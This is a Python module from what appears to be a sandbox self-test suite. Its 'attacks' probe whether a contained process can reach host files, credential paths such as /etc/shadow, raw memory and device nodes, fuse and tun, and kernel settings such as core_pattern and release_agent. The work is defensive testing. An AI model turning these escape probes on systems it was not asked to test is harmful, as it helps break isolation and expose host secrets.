"""Attacks on the host's files, devices and programs."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import socket
import stat
import struct

from appliance.selftest.redteam.base import Target, attack, syscall

HOST_PATHS = ("/etc/shadow", "/etc/passwd", "/root", "/home", "/var/lib", "/usr/bin", "/boot", "/run", "/srv")
PROGRAMS = ("/bin/sh", "/bin/bash", "/usr/bin/env", "/bin/busybox", "/usr/bin/perl", "/usr/bin/cc")
DEVICES = (
    "mem",
    "kmem",
    "port",
    "kvm",
    "cuse",
    "vfio/vfio",
    "mapper/control",
    "loop-control",
    "loop0",
    "sda",
    "vda",
    "nvme0n1",
    "xvda",
    "dm-0",
    "input/event0",
    "vsock",
    "vhost-net",
    "vhost-vsock",
    "uinput",
    "rtc0",
    "kmsg",
    "mcelog",
    "cpu_dma_latency",
    "snapshot",
    "hpet",
    "nvidiactl",
    "nvidia0",
    "nvidia-uvm",
    "dri/card0",
    "ppp",
)
"""Host devices, except fuse and net/tun: gVisor has its own by these names; ``tunnel`` and ``userspace_files`` use
them."""
SETTINGS = (
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/vm/overcommit_memory",
    "/proc/sysrq-trigger",
    "/proc/sys/kernel/hostname",
    "/proc/irq/0/smp_affinity",
    "/sys/kernel/uevent_helper",
    "/sys/fs/cgroup/cgroup.procs",
    "/sys/fs/cgroup/release_agent",
    "/sys/kernel/mm/ksm/run",
)
NEW_NODES = (
    (stat.S_IFCHR, 1, 1),
    (stat.S_IFCHR, 1, 11),
    (stat.S_IFCHR, 10, 203),
    (stat.S_IFCHR, 10, 232),
    (stat.S_IFBLK, 8, 0),
    (stat.S_IFBLK, 254, 0),
)
"""The kernel's memory and log, CUSE (the way out of CVE-2026-96812), KVM, two disks."""
CLONE_NEWNS = 0x0002_0000
TUNSETIFF, IFF_TUN = 0x400454CA, 1


def _canary(path: str, target: Target) -> str | None:
    with open(path) as file:
        return "the canary" if target["canary"] in file.read(4096) else None


def _first(paths: list[str], target: Target) -> str | None:
    """Return the first of these paths under which the canary can be read."""
    last: OSError | None = None
    for path in paths:
        try:
            if _canary(path, target):
                return path
        except OSError as error:
            last = error
    if last is not None:
        raise last
    return None


@attack("files")
def read(target: Target) -> str | None:
    """Read a host file by its path, and by indirect paths."""
    path = target["file"]
    corners = ("/proc/1/root", "/proc/self/root", "/proc/self/cwd/../..", "/..", "/tmp/../../..", "/ipc/../..")
    return _first([path, *(corner + path for corner in corners)], target)


@attack("files")
def climb(target: Target) -> str | None:
    """Read a host file from an open directory upwards, for every mount."""
    last: OSError | None = None
    for mount in target["mounts"]:
        try:
            start = os.open(mount, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            last = error
            continue
        try:
            fd = os.open("../" * 32 + target["file"].lstrip("/"), os.O_RDONLY, dir_fd=start)
            with os.fdopen(fd) as file:
                if target["canary"] in file.read(4096):
                    return mount
        except OSError as error:
            last = error
        finally:
            os.close(start)
    if last is not None:
        raise last
    return None


@attack("files")
def link(target: Target) -> str | None:
    """Read a host file through a symbolic link."""
    path = f"{target['scratch']}/link-{os.getpid()}"
    os.symlink(target["file"], path)
    try:
        return _canary(path, target)
    finally:
        os.unlink(path)


@attack("files")
def handle(target: Target) -> str | None:
    """Read a file by its inode, bypassing paths (name_to_handle_at, open_by_handle_at)."""
    buffer = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint.from_buffer(buffer).value = 128
    mount_id = ctypes.c_int()
    place = target["file"] if os.path.exists(target["file"]) else target["mounts"][0]
    syscall(303, -100, place.encode(), buffer, ctypes.byref(mount_id), 0)
    start = os.open(os.path.dirname(place), os.O_RDONLY)
    try:
        os.close(syscall(304, start, buffer, os.O_RDONLY))
    finally:
        os.close(start)
    return place


@attack("files")
def places(_target: Target) -> str | None:
    """List directories that every host has."""
    found = [path for path in HOST_PATHS if os.path.exists(path) and (not os.path.isdir(path) or os.listdir(path))]
    return ", ".join(found) or None


@attack("files", alone=True)
def programs(_target: Target) -> str | None:
    """Start a shell or a compiler."""
    found = [path for path in PROGRAMS if os.access(path, os.X_OK)]
    return ", ".join(found) or None


@attack("files")
def write(target: Target) -> str | None:
    """Create a file, or open an existing one for writing, on every mount."""
    done = []
    for mount in target["mounts"]:
        for path, flags in _ways(mount):
            try:
                os.close(os.open(path, flags, 0o600))
                done.append(path)
            except OSError:
                continue
        for action in (_open_up, os.utime, _rename):
            try:
                action(mount)
                done.append(f"{mount} itself")
            except OSError:
                continue
    return ", ".join(done) or None


def _open_up(path: str) -> None:
    os.chmod(path, 0o755)


def _rename(path: str) -> None:
    os.rename(path, path + "~")
    os.rename(path + "~", path)


def _ways(mount: str) -> list[tuple[str, int]]:
    if not os.path.isdir(mount):
        return [(mount, os.O_WRONLY), (mount, os.O_RDWR | os.O_TRUNC)]
    files = [f"{mount}/{name}" for name in os.listdir(mount)[:4]]
    return [(f"{mount}/made-{os.getpid()}", os.O_WRONLY | os.O_CREAT), *((path, os.O_RDWR) for path in files)]


@attack("files")
def bind(target: Target) -> str | None:
    """Bind a socket where the host could connect to it."""
    path = f"{target['mounts'][0]}/mine.sock"
    with socket.socket(socket.AF_UNIX) as mine:
        mine.bind(path)
        os.unlink(path)
    return path


@attack("files")
def devices(_target: Target) -> str | None:
    """Open device nodes that lead to a driver."""
    opened = []
    for name in DEVICES:
        for flags in (os.O_RDWR, os.O_RDONLY):
            try:
                os.close(os.open(f"/dev/{name}", flags | os.O_NONBLOCK))
            except OSError:
                continue
            opened.append(name)
            break
    return ", ".join(opened) or None


@attack("files")
def nodes(target: Target) -> str | None:
    """Create and open device nodes."""
    opened = []
    for number, (kind, major, minor) in enumerate(NEW_NODES):
        path = f"{target['scratch']}/node-{os.getpid()}-{number}"
        try:
            os.mknod(path, kind | 0o600, os.makedev(major, minor))
        except OSError:
            continue
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            opened.append(f"{major}:{minor}")
        except OSError:
            continue
        finally:
            os.unlink(path)
    return ", ".join(opened) or None


@attack("files")
def tunnel(_target: Target) -> str | None:
    """Create a network device."""
    fd = os.open("/dev/net/tun", os.O_RDWR)
    try:
        fcntl.ioctl(fd, TUNSETIFF, struct.pack("16sH22x", b"athanor-try", IFF_TUN))
    finally:
        os.close(fd)
    return "athanor-try"


@attack("files", alone=True)
def userspace_files(target: Target) -> str | None:
    """Mount a userspace file system (fuse), as a way to other files."""
    fd = os.open("/dev/fuse", os.O_RDWR)
    syscall(272, CLONE_NEWNS)
    syscall(165, b"none", b"/", 0, 0x44000, 0)  # private, so that nothing of it is visible outside
    options = f"fd={fd},rootmode=40000,user_id=0,group_id=0".encode()
    syscall(165, b"fuse", target["scratch"].encode(), b"fuse", 0, options)
    return target["scratch"]


@attack("files")
def names(target: Target) -> str | None:
    """Read host paths reported by the kernel."""
    for path in ("/proc/self/maps", "/proc/self/mountinfo", "/proc/self/environ", "/proc/cmdline"):
        with contextlib.suppress(OSError), open(path, errors="replace") as file:
            if target["home"] in file.read():
                return path
    return None


@attack("files")
def settings(target: Target) -> str | None:
    """Open kernel settings for writing; nothing is written."""
    opened = []
    for path in (*SETTINGS, f"/proc/{target['victim']}/oom_score_adj"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            opened.append(path)
        except OSError:
            continue
    return ", ".join(opened) or None


@attack("files")
def memory(_target: Target) -> str | None:
    """Open the machine's memory as a file."""
    for path in ("/proc/kcore", "/dev/mem", "/dev/kmem"):
        try:
            os.close(os.open(path, os.O_RDONLY))
        except OSError:
            continue
        return path
    return None


@attack("files")
def shared(target: Target) -> str | None:
    """Open POSIX shared memory of the host by its name."""
    return _canary(f"/dev/shm/{target['shared']}", target)
